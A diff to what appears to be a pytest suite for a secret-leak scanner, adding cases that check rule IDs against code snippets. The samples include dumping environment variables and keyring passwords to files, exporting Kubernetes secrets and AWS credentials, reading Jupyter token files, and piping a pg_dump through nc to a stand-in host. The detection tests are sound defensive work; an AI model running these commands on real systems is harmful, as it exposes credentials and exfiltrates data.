@@ -84,3 +84,40 @@ def test_a_request_with_a_body_sends_it() -> None:
 
 def test_a_session_that_checks_no_certificate() -> None:
     assert "JG502" in rules("import requests\ns = requests.Session()\ns.verify = False\ns.get('https://a.test')")
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import json, os\njson.dump(dict(os.environ), open('a.json', 'w'))",
+        "import os\nopen('a.txt', 'w').write('\\n'.join(f'{k}={v}' for k, v in os.environ.items()))",
+        "import csv, keyring\nw = csv.writer(open('a.csv', 'w'))\nw.writerow(['a', keyring.get_password('a', 'b')])",
+        "import yaml, keyring\nwith open('a.yaml', 'w') as f:\n    yaml.dump({'a': keyring.get_password('a', 'b')}, f)",
+    ],
+)
+def test_credentials_are_written(code: str) -> None:
+    assert rules(code) == {"JG218"}
+
+
+@pytest.mark.parametrize(
+    ("code", "rule"),
+    [
+        ("%env", "JG602"),
+        ("!kubectl get secrets -n prod -o yaml", "JG602"),
+        ("!aws configure export-credentials", "JG602"),
+        ("!grep -rE '(api_key|secret)' ~/ --include='*.py'", "JG601"),
+        ("import glob\nfor p in glob.glob('/run/user/1/jupyter/jpserver-*.json'):\n    print(open(p).read())", "JG601"),
+        ("import sqlalchemy as s\nprint(s.create_engine(u).url.render_as_string(hide_password=False))", "JG602"),
+        ("!pg_dump shop | gzip | nc x.test 9999", "JG507"),
+    ],
+)
+def test_other_ways(code: str, rule: str) -> None:
+    assert rule in rules(code)
+
+
+@pytest.mark.parametrize(
+    "code",
+    ["%env HOME", "!grep -r 'token' src/", "!kubectl get pods", "!pg_dump shop > shop.sql"],
+)
+def test_nothing_of_the_kind(code: str) -> None:
+    assert rules(code) == set()
